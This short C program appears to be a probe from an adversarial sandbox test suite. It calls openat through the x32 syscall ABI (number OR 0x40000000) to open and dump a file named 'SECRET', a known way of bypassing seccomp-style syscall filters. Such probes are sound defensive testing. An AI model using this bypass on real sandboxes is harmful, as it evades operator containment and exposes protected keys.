// technique: the x32 ABI (syscall number | 0x40000000) for openat of the key
#include "adv.h"
int main(void) {
	fflush(stdout);
	long fd = syscall(0x40000000 | 257, AT_FDCWD, adv("SECRET"), O_RDONLY);
	printf("x32 openat: %ld %s\n", fd, fd < 0 ? strerror(errno) : "");
	if (fd >= 0) dump("x32", (int)fd);
	return 0;
}
